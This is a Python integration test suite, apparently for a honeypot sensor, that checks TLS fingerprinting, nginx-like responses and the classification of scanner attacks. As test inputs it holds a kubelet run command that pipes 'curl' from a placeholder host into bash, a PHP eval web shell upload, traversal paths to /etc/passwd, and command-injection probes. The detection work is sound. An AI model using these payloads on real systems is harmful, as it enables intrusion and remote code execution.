    assert ask(ip, 2375, b"GET /version HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n").startswith(b"HTTP/1.1 200 OK\r\n")
    raw = ask(ip, 9200, rtsp)
    assert raw.startswith(b"HTTP/1.1 400 Bad Request\r\nX-elastic-product: Elasticsearch\r\ncontent-type: application/json"), raw
    assert json.loads(raw.split(b"\r\n\r\n", 1)[1])["status"] == 400, raw
    raw = ask(ip, 7001, rtsp)
    assert raw.startswith(b"HTTP/1.1 400 Bad Request\r\nConnection: close\r\nDate: X\r\nContent-Length: "), raw
    assert b"<TITLE>Error 400--Bad Request</TITLE>" in raw, raw
    for port, server in ((60001, b"JAWS/1.0"), (8088, b"Jetty(9.4.51.v20230217)")):
        raw = ask(ip, port, rtsp)
        assert raw.startswith(b"HTTP/1.1 400 Bad Request\r\nServer: " + server + b"\r\n"), (port, raw)
    # the answers too: Go echoes HTTP/1.0 and sorts its headers, Elasticsearch sends no Date
    raw = ask(ip, 2375, b"GET /_ping HTTP/1.0\r\n\r\n")
    assert raw.startswith(b"HTTP/1.0 200 OK\r\nApi-Version: 1.41\r\nCache-Control: no-cache, no-store, must-revalidate\r\n"), raw
    raw = ask(ip, 9200, b"GET / HTTP/1.0\r\n\r\n")
    assert raw.startswith(b"HTTP/1.0 200 OK\r\nX-elastic-product: Elasticsearch\r\ncontent-type: "), raw
    assert b"Date:" not in raw.split(b"\r\n\r\n")[0], raw
    for port in ports:
        for req in (rtsp, b"GET / HTTP/1.0\r\n\r\n", b"OPTIONS / HTTP/1.0\r\n\r\n", b"GET /nope HTTP/1.0\r\n\r\n",
                    b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\nX: \x01\r\n\r\n"):
            raw = ask(ip, port, req)
            assert b"nginx" not in raw, (port, req, raw)
    out = subprocess.run(["nmap", "-sV", "--version-light", "-Pn", "-n", "-p", "7001,8000,8088", ip], capture_output=True,
                         text=True, timeout=T(300)).stdout
    for port, product in ((7001, "Oracle WebLogic"), (8000, "SimpleHTTPServer"), (8088, "Jetty 9.4.51")):
        line = [l for l in out.splitlines() if l.startswith("%d/tcp" % port)]
        assert line and product in line[0] and "nginx" not in line[0], (port, out)
    stop_and_read(d)


@case
def http_kubelet_api_over_tls(ctx):
    """curl -k against a trap on 10250, as TeamTNT scripts do: the trap terminates TLS, /pods lists
    one pod on the SSH shell's host, /run/NS/POD/CONTAINER answers 200 with what the command prints
    on the emulated machine (never run), anything else the kubelet's plain 404.  The run request is classified rce, its cmd goes to the shell parser
    and its URL is logged; nothing runs."""
    need("curl")
    ip = "127.%d.%d.%d" % (random.randint(1, 250), random.randint(1, 250), random.randint(2, 250))
    d = ctx.daemon("kubelet", [Service("trap", bind=ip, tcp_ports=[10250], flush_after="300ms")]).start()
    base = "https://%s:10250" % ip

    def curl(*args):
        r = subprocess.run(["curl", "-sk", "-m", str(int(T(10))), "-w", "\n%{http_code}"] + list(args),
                           capture_output=True, timeout=T(20))
        body, _, code = r.stdout.decode("utf-8", "replace").rpartition("\n")
        return int(code or 0), body

    code, body = curl(base + "/pods")
    pods = json.loads(body)
    assert code == 200 and pods["kind"] == "PodList" and pods["items"], (code, body)
    assert pods["items"][0]["spec"]["nodeName"] == identity(d, "hostname"), pods
    url = "http://192.0.2.84/k8s.sh"
    code, body = curl("-X", "POST", base + "/run/default/%s/nginx" % pods["items"][0]["metadata"]["name"],
                      "--data-urlencode", "cmd=sh -c \"curl -s %s | bash\"" % url)
    assert code == 200 and body == "", (code, body)
    # what the command prints on the emulated machine (never run): scanners check for it
    code, body = curl("-X", "POST", base + "/run/default/%s/nginx" % pods["items"][0]["metadata"]["name"],
                      "--data-urlencode", "cmd=id; echo $((1337*7)); cat /etc/hostname; nosuchcmd")
    assert code == 200 and body == "uid=0(root) gid=0(root) groups=0(root)\n9359\n%s\n" % identity(d, "hostname"), \
        (code, body)
    code, body = curl(base + "/configz")
    assert code == 404 and body.strip() == "404 page not found", (code, body)
    wait_for(lambda: len(requests_of(d.events())) >= 4, T(20), what="four requests")
    time.sleep(0.5)
    evs = stop_and_read(d)
    assert len([e for e in evs if e["eventid"] == "tls.client_hello"]) == 4, [e["eventid"] for e in evs]
    run = [e for e in requests_of(evs) if e["uri"].startswith("/run/")]
    assert run and run[0]["tls"] is True and "rce" in run[0]["attack_classes"], run
    assert run[0]["rule"] == "kubelet-run" and ["curl", "-s", url] in run[0]["injected"], run[0]
    assert url in {e["url"] for e in evs if e["eventid"].startswith("session.file_download")}


# ---- TLS ------------------------------------------------------------------------------------------

def tshark_ja3(pcap, ports):
    """(ja3 md5, ja3 string) of every ClientHello in pcap, per tshark.  The server ports are decoded
    as TLS by name: tshark may otherwise take a client's ephemeral port for another protocol's."""
    decode = []
    for port in ports:
        decode += ["-d", "tcp.port==%d,tls" % port]
    r = subprocess.run(["tshark", "-r", pcap] + decode + ["-Y", "tls.handshake.type == 1", "-T", "fields",
                        "-e", "tls.handshake.ja3", "-e", "tls.handshake.ja3_full"], capture_output=True,
                       timeout=T(60))
    return [tuple(l.split("\t")) for l in r.stdout.decode().splitlines() if l.strip()]


@case
def tls_any_port_fingerprints_and_http_inside(ctx):
    """curl -k, python ssl and openssl s_client (TLS 1.2 and 1.3, SNI, ALPN) on a trap port and on the
    http service: tls.client_hello (JA3 equal to tshark's, JA4, SNI, ALPN), tls.server_hello (JA3S),
    then the request inside as http.request with tls true.  The certificate is the sensor's own."""
    need("curl", "openssl")
    d = web_daemon(ctx, "tls-any")
    tport, wport = d.svc("trap").port, d.svc("web").port
    pcap = os.path.join(d.tmp, "lo.pcap")
    cap = None
    if shutil.which("tshark") and os.geteuid() == 0:
        errf = os.path.join(d.tmp, "tshark.err")
        with open(errf, "wb") as ef:
            cap = subprocess.Popen(["tshark", "-i", "lo", "-w", pcap, "-f", "tcp port %d or tcp port %d"
                                    % (tport, wport)], stdout=subprocess.DEVNULL, stderr=ef)
        wait_for(lambda: b"Capturing on" in open(errf, "rb").read(), T(20), what="tshark to start capturing")
        time.sleep(0.3)
    r = subprocess.run(["curl", "-sk", "--http1.1", "https://127.0.0.1:%d/tls-curl" % tport], capture_output=True,
                       timeout=T(15))
    assert r.returncode == 0, r.stderr
    c = ssl.create_default_context()
    c.check_hostname = False
    c.verify_mode = ssl.CERT_NONE
    c.set_alpn_protocols(["http/1.1"])
    with socket.create_connection(("127.0.0.1", wport), timeout=T(5)) as raw:
        with c.wrap_socket(raw, server_hostname="python.example") as s:
            s.sendall(b"GET /tls-python HTTP/1.1\r\nHost: python.example\r\nConnection: close\r\n\r\n")
            reply = b""
            while True:
                b = s.recv(65536)
                if not b:
                    break
                reply += b
            cert = s.getpeercert(binary_form=True)
    assert reply.startswith(b"HTTP/1.1 "), reply[:100]
    for opts in (["-tls1_2", "-servername", "s12.example"], ["-tls1_3", "-alpn", "http/1.1"]):
        r = subprocess.run(["openssl", "s_client", "-quiet", "-connect", "127.0.0.1:%d" % tport] + opts,
                           input=b"GET /tls-openssl HTTP/1.0\r\n\r\n", capture_output=True, timeout=T(15))
        assert b"HTTP/1." in r.stdout, (opts, r.stdout[:200], r.stderr[-300:])
    d.wait_event(lambda e: e["eventid"] == "http.request" and e.get("uri") == "/tls-openssl", count=2,
                 what="both s_client requests")
    if cap:
        time.sleep(1)
        cap.terminate()
        cap.wait()
    evs = stop_and_read(d)
    hellos = [e for e in evs if e["eventid"] == "tls.client_hello"]
    assert len(hellos) == 4, hellos
    for e in hellos:
        assert re.match(r"^[0-9a-f]{32}$", e["ja3"]) and hashlib.md5(e["ja3_string"].encode()).hexdigest() == e["ja3"]
        assert re.match(r"^t1[23][di]\d{4}[a-z0-9]{2}_[0-9a-f]{12}_[0-9a-f]{12}$", e["ja4"]), e["ja4"]
        assert e["client"], e
    assert any(e.get("sni") == "python.example" for e in hellos), hellos
    assert any(e.get("sni") == "s12.example" for e in hellos), hellos
    assert any("http/1.1" in e.get("alpn", "") for e in hellos), hellos
    shs = [e for e in evs if e["eventid"] == "tls.server_hello"]
    assert len(shs) == 4 and all(re.match(r"^[0-9a-f]{32}$", e["ja3s"]) for e in shs), shs
    reqs = [e for e in requests_of(evs) if e["uri"].startswith("/tls-")]
    assert sorted(e["uri"] for e in reqs) == ["/tls-curl", "/tls-openssl", "/tls-openssl", "/tls-python"], reqs
    assert all(e["tls"] is True for e in reqs), reqs
    # per-sensor certificate: in data_dir, the one served, not a fixed subject
    with open(os.path.join(d.data_dir, "tls", "server.crt"), "rb") as f:
        pem = f.read()
    assert ssl.DER_cert_to_PEM_cert(cert).strip().encode() in pem.replace(b"\r\n", b"\n") or \
        ssl.PEM_cert_to_DER_cert(pem.decode()) == cert
    if cap and os.path.exists(pcap):
        ts = tshark_ja3(pcap, (tport, wport))
        ours = sorted((e["ja3"], e["ja3_string"]) for e in hellos)
        assert sorted(ts) == ours, (sorted(ts), ours)


@case
def tls_chromium_headless(ctx):
    """Chromium (headless) loads a page over TLS from a trap port: its ClientHello is fingerprinted
    (GREASE removed: the same JA3 for two loads) and its request recorded."""
    binary = shutil.which("chromium") or shutil.which("chromium-browser")
    if not binary:
        raise Skip("chromium is not installed")
    d = web_daemon(ctx, "tls-chromium")
    port = d.svc("trap").port
    prof = os.path.join(d.tmp, "chromium")
    for i in range(2):
        r = subprocess.run([binary, "--headless", "--disable-gpu", "--no-sandbox", "--ignore-certificate-errors",
                            "--user-data-dir=%s" % prof, "--no-first-run", "--dump-dom",
                            "https://127.0.0.1:%d/chromium-%d" % (port, i)],
                           capture_output=True, timeout=T(60))
        assert b"<html" in r.stdout.lower(), r.stderr[-500:]
    d.wait_event(lambda e: e["eventid"] == "http.request" and e.get("uri") == "/chromium-1", timeout=T(20),
                 what="chromium's second request")
    evs = stop_and_read(d)
    reqs = [e for e in requests_of(evs) if e["uri"].startswith("/chromium-")]
    assert len(reqs) == 2 and all(e["tls"] and "Chrome/" in e.get("user_agent", "") for e in reqs), reqs
    sessions = set(e["session"] for e in reqs)
    hellos = [e for e in evs if e["eventid"] == "tls.client_hello" and e["session"] in sessions]
    assert len(hellos) == 2, hellos
    # JA3 changes with Chrome's extension order permutation (since Chrome 110); JA4 sorts and must not
    assert hellos[0]["ja4"] == hellos[1]["ja4"], hellos
    assert all(e["ja4"].startswith("t13") and e["ja4"][8:10] == "h2" for e in hellos), hellos   # offers h2
    assert all("h2" in e.get("alpn", "") for e in hellos), hellos
    assert all(re.match(r"^[0-9a-f]{32}$", e["ja3"]) for e in hellos), hellos


@case
def http_wowhoneypot_rules_imported(ctx):
    """A service with wowhoneypot_rules answers from WOWHoneypot's mrrules.xml before the shipped rules."""
    need("curl")
    xml = os.path.join(HERE, "..", "data", "wow", "mrrules.xml")
    d = ctx.daemon("http-wow", [Service("web", protocol="http", wowhoneypot_rules=os.path.abspath(xml))]).start()
    port = d.svc("web").port
    r = subprocess.run(["curl", "-s", "http://127.0.0.1:%d/command.php" % port], capture_output=True, timeout=T(10))
    assert r.stdout == b"610cker", r.stdout[:200]
    evs = stop_and_read(d)
    e = [x for x in requests_of(evs) if x["uri"] == "/command.php"]
    assert len(e) == 1 and e[0]["status"] == 200 and "1008" in e[0]["rule"], e


@case
def http_multipart_upload_kept(ctx):
    """A web shell posted as a multipart file field (curl -F, on the http service and on a trap port) is
    stored by SHA-256 as session.file_upload; the request is still classified and answered."""
    need("curl")
    d = web_daemon(ctx, "http-upload")
    shell = b"<?php @eval($_POST['x']); ?>\n"
    tmp = os.path.join("/tmp", "hanipo-it-upload-%d.php" % os.getpid())
    with open(tmp, "wb") as f:
        f.write(shell)
    ctx.defer(lambda: os.unlink(tmp))
    for port in (d.svc("web").port, d.svc("trap").port):
        r = subprocess.run(["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "-F", "file=@%s;filename=x.php" % tmp,
                            "-F", "submit=Upload", "http://127.0.0.1:%d/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php" % port],
                           capture_output=True, timeout=T(10))
        assert r.returncode == 0 and r.stdout in (b"200", b"404"), (r.stdout, r.stderr)
    sha = hashlib.sha256(shell).hexdigest()
    d.wait_event(lambda e: e["eventid"] == "session.file_upload", count=2, what="two uploads")
    evs = stop_and_read(d)
    ups = [e for e in evs if e["eventid"] == "session.file_upload"]
    assert len(ups) == 2 and all(e.get("shasum", e.get("sha256")) == sha and e["filename"] == "x.php" for e in ups), ups
    assert {e["protocol_detail"] for e in ups} == {"http"}, ups
    with open(os.path.join(d.data_dir, "payloads", sha), "rb") as f:
        assert f.read() == shell
    assert len(requests_of(evs)) == 2


# ---- real web scanners ---------------------------------------------------------------------------

SCANNER_WORDS = ("admin", "backup", "login", ".env", ".git/HEAD", "phpmyadmin", "wp-admin", "server-status",
                 "config.php", "uploads", "robots.txt", "index.php")


class _NoCallbacks(http.server.BaseHTTPRequestHandler):
    """wapiti's endpoint: no callback recorded ({}) for whatever it asks."""

    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"{}")

    def log_message(self, *args):
        pass


def _classes(e):
    return set(e["attack_classes"])


def _check_family(problems, tool, reqs, what, pred, want):
    """Every request of reqs that pred picks (at least one) has every class of want."""
    fam = [e for e in reqs if pred(e["uri_decoded"] + "\n" + (e.get("body_preview") or ""))]
    if not fam:
        problems.append("%s: no %s request at all" % (tool, what))
    for e in fam:
        if not want <= _classes(e):
            problems.append("%s %s: %r has %s, not %s" % (tool, what, (e["uri_decoded"] + " " + (e.get("body_preview") or ""))[:200],
                                                          sorted(_classes(e)), sorted(want)))


@case
def http_real_scanners_classified(ctx):
    """The web scanners Debian packages, each against its own http service of one sensor, bounded to
    a few seconds each: sqlmap (boolean, error, UNION, stacked, time-based and inline payloads on a
    GET parameter), wapiti (its sql, blindsql, exec, file, crlf, ssrf, redirect, xxe and xss modules),
    whatweb, and the directory brute forcers gobuster, ffuf and dirb with a short word list.  What an
    operator checks: every tool's requests are recorded, the ones that announce the tool in their
    User-Agent are `scanner`, every attack payload family carries its class (sqli, command-injection,
    rce, path-traversal, lfi, rfi, ssrf, xss), and brute forcing is scanner/recon without attack
    classes.  A tool that is not installed is skipped (noted); with none the case is skipped."""
    tools = ("sqlmap", "wapiti", "whatweb", "gobuster", "ffuf", "dirb")
    have = [t for t in tools if shutil.which(t)]
    if not have:
        raise Skip("none of %s is installed" % ", ".join(tools))
    d = ctx.daemon("http-scanners", [Service(t, protocol="http") for t in have]).start()
    home = os.path.join(d.tmp, "home")
    os.makedirs(home)
    env = dict(os.environ, HOME=home, LC_ALL="C.UTF-8")
    words = os.path.join(d.tmp, "words.txt")
    with open(words, "w") as f:
        f.write("\n".join(SCANNER_WORDS) + "\n")
    # wapiti asks its "internal endpoint" whether the target called its canary host back (ssrf, xxe):
    # a local server that never heard from anyone, so that nothing leaves the machine
    endpoint = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _NoCallbacks)
    threading.Thread(target=endpoint.serve_forever, daemon=True).start()
    ctx.defer(endpoint.server_close)
    ctx.defer(endpoint.shutdown)
    cfg = os.path.join(d.tmp, "wapiti-config")
    os.makedirs(cfg)
    with open(os.path.join(cfg, "apps.json"), "w") as f:
        f.write("{}")                    # else wapiti's wapp module downloads its database at start-up

    def base(t):
        return "http://127.0.0.1:%d" % d.svc(t).port

    cmds = {
        "sqlmap": ["sqlmap", "-u", base("sqlmap") + "/?id=1", "--batch", "--level=1", "--risk=1",
                   "--technique=BEUSTQ", "--time-sec=1", "--timeout=5", "--retries=0", "--threads=1",
                   "--disable-coloring", "--flush-session", "--output-dir=" + os.path.join(d.tmp, "sqlmap")],
        "wapiti": ["wapiti", "-u", base("wapiti") + "/search.php?q=test&id=1", "--scope", "url",
                   "-m", "sql,blindsql,exec,file,crlf,ssrf,redirect,xxe,xss", "--flush-session",
                   "--max-scan-time", str(int(T(25))), "--max-attack-time", str(int(T(8))), "--max-links-per-page", "5",
                   "-t", "3",
                   "--external-endpoint", "https://wapiti3.ovh/", "--internal-endpoint", "http://127.0.0.1:%d/" % endpoint.server_port,
                   "--store-session", os.path.join(d.tmp, "wapiti-session"), "--store-config", cfg,
                   "--no-bugreport", "-v", "0", "-f", "txt", "-o", os.path.join(d.tmp, "wapiti.txt")],
        "whatweb": ["whatweb", "--color=never", base("whatweb") + "/"],
        "gobuster": ["gobuster", "dir", "-q", "-z", "-t", "2", "-u", base("gobuster") + "/", "-w", words],
        "ffuf": ["ffuf", "-s", "-t", "2", "-u", base("ffuf") + "/FUZZ", "-w", words],
        "dirb": ["dirb", base("dirb") + "/", words, "-S", "-r"],
    }
    took = {}
    for t in have:
        t0 = time.monotonic()
        r = subprocess.run(cmds[t], cwd=d.tmp, env=env, stdin=subprocess.DEVNULL, capture_output=True, timeout=T(60))
        took[t] = time.monotonic() - t0
        assert r.returncode == 0, (t, r.returncode, r.stdout[-2000:], r.stderr[-2000:])
    evs = stop_and_read(d)
    by_tool = {t: [e for e in requests_of(evs) if e["service"] == t] for t in have}
    problems = []

    def scanner_ua(t, ua_prefix):
        for e in by_tool[t]:
            if not (e.get("user_agent") or "").startswith(ua_prefix) or "scanner" not in e["attack_classes"] \
                    or not any(r.startswith("scanner-user-agent") for r in e.get("class_rules", [])):
                problems.append("%s: %s %r (User-Agent %r) is not scanner by its User-Agent: %s" % (
                    t, e["method"], e["uri"], e.get("user_agent"), e["attack_classes"]))

    for t in have:
        if not by_tool[t]:
            problems.append("%s: no http.request recorded" % t)
    if "sqlmap" in have:
        reqs = by_tool["sqlmap"]
        scanner_ua("sqlmap", "sqlmap/")
        # every value sqlmap puts in id= but a plain number (its stability and dynamicity checks)
        # is a payload: sqli, or xss for its <'"> reflection check
        payloads = [e for e in reqs if not re.fullmatch(r"/\?id=-?\d+", e["uri_decoded"])]
        for e in payloads:
            if not ({"sqli", "xss"} & _classes(e)):
                problems.append("sqlmap: payload %r has %s" % (e["uri_decoded"][:150], e["attack_classes"]))
        rules = {r for e in payloads for r in e.get("class_rules", [])}
        for want in ("sqli-tautology", "sqli-functions", "sqli-expressions", "sqli-union", "sqli-time",
                     "sqli-stacked", "sqli-quote-probe"):
            if want not in rules:
                problems.append("sqlmap: no payload matched %s (rules seen: %s)" % (want, sorted(rules)))
        if len(payloads) < 40:
            problems.append("sqlmap: only %d payloads" % len(payloads))
    if "wapiti" in have:
        reqs = by_tool["wapiti"]

        def fam(*subs):
            return lambda text: any(x in text for x in subs)
        for what, pred, want in (
                ("blindsql", fam("sleep(", "benchmark(", "waitfor"), {"sqli"}),
                ("sql error probe", fam("\xbf'\"("), {"sqli"}),
                ("exec", fam(";env;", "|env", "sleep 60", "ping -n 25"), {"command-injection"}),
                ("php eval probe", fam("md5('w4p1t1_md5')"), {"rce", "scanner"}),
                ("traversal", fam("../../../../../../../../../../etc/passwd"), {"path-traversal", "lfi"}),
                ("file", fam("=/etc/passwd", "=C:\\Windows\\", "=C:/Windows/", "....//...."), {"lfi"}),
                ("rfi", fam("=https://wapiti3.ovh/e.php"), {"rfi"}),
                ("crlf", fam("\r\nwapiti: "), {"xss", "scanner"}),
                ("ssrf", fam("wapiti3.ovh/ssrf/"), {"ssrf", "scanner"}),
                ("redirect", fam("=https://openbugbounty.org/"), {"ssrf"}),
                ("xxe file", fam('SYSTEM "file:'), {"lfi"}),
                ("xxe dtd", fam('% remote SYSTEM "https://'), {"ssrf"})):
            _check_family(problems, "wapiti", reqs, what, pred, want)
        # its default User-Agent is a browser's (Firefox 45): payloads tell, not the User-Agent
        classified = [e for e in reqs if e["attack_classes"]]
        if len(classified) < 0.9 * len(reqs):
            problems.append("wapiti: %d of %d requests classified" % (len(classified), len(reqs)))
    if "whatweb" in have:
        scanner_ua("whatweb", "WhatWeb/")
    for t, ua in (("gobuster", "gobuster/"), ("ffuf", "Fuzz Faster U Fool"), ("dirb", None)):
        if t not in have:
            continue
        reqs = by_tool[t]
        if ua:
            scanner_ua(t, ua)
        else:
            # dirb sends MSIE 6's User-Agent: its fixed not-found calibration paths give it away
            probes = [e for e in reqs if e["uri"] in ("/randomfile1", "/frand2")]
            if len(probes) != 2 or not all("scanner" in e["attack_classes"] for e in probes):
                problems.append("dirb: calibration requests %r" % [(e["uri"], e["attack_classes"]) for e in probes])
        got = {e["uri"]: e for e in reqs}
        for w in SCANNER_WORDS:
            if "/" + w not in got:
                problems.append("%s: /%s not requested (got %s)" % (t, w, sorted(got)))
        for w, want in ((".env", {"recon", "info-leak"}), (".git/HEAD", {"recon", "info-leak"}),
                        ("phpmyadmin", {"recon"}), ("server-status", {"recon", "info-leak"})):
            if "/" + w in got and not want <= _classes(got["/" + w]):
                problems.append("%s: /%s has %s" % (t, w, got["/" + w]["attack_classes"]))
        for e in reqs:
            if _classes(e) - {"scanner", "recon", "info-leak"}:
                problems.append("%s: brute forcing %r classified %s" % (t, e["uri"], e["attack_classes"]))
    ctx.note("; ".join("%s %d requests %.1fs" % (t, len(by_tool[t]), took[t]) for t in have) +
             ("; not installed: " + ", ".join(t for t in tools if t not in have) if len(have) < len(tools) else ""))
    assert not problems, "\n".join(problems[:60]) + ("\n... %d more" % (len(problems) - 60) if len(problems) > 60 else "")


# ---- the same answers as a real nginx ------------------------------------------------------------

# the rules that stand for nginx's own site (`static` in data/http/responses.rules)
NGINX_SITE_RULES = ("default", "not-found", "not-found-debian", "robots-txt", "robots-txt-debian", "favicon",
                    "favicon-debian")


def _nginx_refuses_target(request_text):
    """True where nginx answers 400 to the request line's target whatever the site: CONNECT's
    host:port, a bad or %00 escape, a '..' above the root after decoding (written from what Debian's
    nginx 1.22 answers, independently of hanipo's code)."""
    method, _, rest = request_text.partition(" ")
    target = rest.split(" ", 1)[0]
    if method == "CONNECT" and not target.startswith("http"):
        return True
    path = target.split("?", 1)[0].split("#", 1)[0]
    if "://" in path:
        path = "/" + path.split("://", 1)[1].partition("/")[2]
    out = bytearray()
    i = 0
    while i < len(path):
        c = path[i]
        if c == "%":
            h = path[i + 1:i + 3]
            if len(h) < 2 or any(x not in "0123456789abcdefABCDEF" for x in h) or int(h, 16) == 0:
                return True
            out.append(int(h, 16))
            i += 3
        else:
            out += c.encode("latin-1", "replace")
            i += 1
    depth = 0
    for seg in bytes(out).split(b"/"):
        if seg == b"..":
            depth -= 1
            if depth < 0:
                return True
        elif seg not in (b"", b"."):
            depth += 1
    return False


def _nginx_refuses_host(request_text):
    """True where nginx answers 400 to a Host header (ngx_http_validate_host in 1.22: a blank,
    control byte, '/', NUL or ".." in it, or nothing left once a port and a final dot are cut)."""
    for line in request_text.split("\r\n\r\n", 1)[0].split("\r\n")[1:]:
        name, colon, value = line.partition(":")
        if not colon or name.lower() != "host":
            continue
        value = value.strip(" ")
        host = value[:value.index("]") + 1] if value.startswith("[") and "]" in value else value.split(":", 1)[0]
        if host.endswith("."):
            host = host[:-1]
        if not host or ".." in value or any(c <= " " or c in "/\x7f" for c in value):
            return True
    return False


def _nginx_probes():
    """(name, request bytes): what scanners and fingerprinting tools send, including the odd."""
    pad = lambda n, c=b"a": c * n
    return [
        ("root", b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
        ("root-1.0", b"GET / HTTP/1.0\r\n\r\n"),
        ("index", b"GET /index.html HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
        ("index-debian", b"GET /index.nginx-debian.html HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
        ("index-htm", b"GET /index.htm HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
        ("head", b"HEAD / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
        ("missing", b"GET /nosuchpage.php HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
        ("post-root", b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\nConnection: close\r\n\r\na=b"),
        ("post-root-keepalive", b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\n\r\na=b"),
        ("post-missing", b"POST /x.php HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\nConnection: close\r\n\r\na=b"),
        ("put-root", b"PUT / HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"),
        ("options-root", b"OPTIONS / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
        ("options-star", b"OPTIONS * HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
        ("patch-missing", b"PATCH /x HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
        ("lower-method", b"get / HTTP/1.1\r\nHost: x\r\n\r\n"),
        ("robots", b"GET /robots.txt HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
        ("robots-patch", b"PATCH /robots.txt HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
        ("favicon-delete", b"DELETE /favicon.ico HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
        ("http09", b"GET /\r\n"),
        ("no-host", b"GET / HTTP/1.1\r\n\r\n"),
        ("no-host-missing", b"GET /x HTTP/1.1\r\n\r\n"),
        ("trace", b"TRACE / HTTP/1.1\r\nHost: x\r\n\r\n"),
        ("trace-missing", b"TRACE /x HTTP/1.1\r\nHost: x\r\n\r\n"),
        ("trace-no-host", b"TRACE / HTTP/1.1\r\n\r\n"),
        ("version-2", b"GET / HTTP/2.0\r\nHost: x\r\n\r\n"),
        ("version-junk", b"GET / HTTP/1.x\r\nHost: x\r\n\r\n"),
        ("junk", b"\x16\x03\x01hello\r\n\r\n"),
        ("header-no-colon", b"GET / HTTP/1.1\r\nHost x\r\n\r\n"),
        ("uri-8192", b"GET /" + pad(8192 - 16) + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
        ("uri-8193", b"GET /" + pad(8193 - 16) + b" HTTP/1.1\r\nHost: x\r\n\r\n"),
        ("header-8193", b"GET / HTTP/1.1\r\nHost: x\r\nX-A: " + pad(8193 - 7, b"b") + b"\r\n\r\n"),
        ("headers-5x8k", b"GET / HTTP/1.1\r\nHost: x\r\n" +
         b"".join(b"X-%d: %s\r\n" % (i, pad(8000, b"c")) for i in range(5)) + b"\r\n"),
        ("dup-host", b"GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n"),
        ("te-unknown", b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: gzip\r\n\r\n"),
        ("cl-junk", b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 1x\r\n\r\n"),
        # absurd heads, as a differential run against nginx found them answered differently
        ("head-505", b"HEAD / HTTP/2.0\r\nHost: x\r\n\r\n"),               # HEAD: no page, even refused
        ("http09-head", b"HEAD /\r\n"),                                      # 0.9 but GET: 400 without a head
        ("http09-lower", b"get /\r\n"),                                      # refused mid-line: 400 with one
        ("http09-absolute", b"GET http://x\r\n"),
        ("version-1.999", b"GET / HTTP/1.999\r\nHost: x\r\nConnection: close\r\n\r\n"),
        ("version-0.9", b"GET / HTTP/0.9\r\n\r\n"),
        ("method-100", b"A" * 100 + b" / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
        ("header-name-only", b"GET / HTTP/1.1\r\nHost: x\r\nX-A\r\nConnection: close\r\n\r\n"),
        ("header-crcrlf", b"GET / HTTP/1.1\r\nHost: x\r\r\nConnection: close\r\n\r\n"),
        ("headers-1001", b"GET / HTTP/1.1\r\nHost: x\r\n" + b"A: 1\r\n" * 1000 + b"\r\n"),
        ("host-slash", b"GET / HTTP/1.1\r\nHost: x/y\r\n\r\n"),
        ("absolute-userinfo", b"GET http://u@x/ HTTP/1.1\r\nHost: x\r\n\r\n"),
        ("no-host-te", b"POST / HTTP/1.1\r\nTransfer-Encoding: gzip\r\n\r\n"),
        ("cl-int64", b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 9223372036854775808\r\n\r\n"),
        ("cl-tab", b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 3\t\r\n\r\nabc"),
        ("expect-get", b"GET / HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\nConnection: close\r\n\r\n"),
        ("junk-short", b"xyz"),
        ("http09-5-bytes", b"X /\r\n"),
        # HTTP/2 with prior knowledge (h2c's preface), proxy checks
        ("h2-preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
        ("star-v2", b"GET * HTTP/2.0\r\n\r\n"),
        ("connect-authority", b"CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n\r\n"),
        ("connect-absolute", b"CONNECT http://example.com/ HTTP/1.1\r\nHost: example.com\r\n\r\n"),
        # paths nginx resolves before it looks for a file, or refuses
        ("traversal", b"GET /../../etc/passwd HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
        ("traversal-encoded", b"GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
        ("traversal-slashes", b"GET /a%2f..%2f..%2fx HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
        ("escape-nul", b"GET /a%00.php HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
        ("escape-bad", b"GET /%zz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
        ("dotdot-to-root", b"GET /a/.. HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
        ("dot-encoded", b"GET /%2e HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
        ("index-dotdot", b"GET /index.html/.. HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
        ("double-slash-index", b"GET //index.html HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
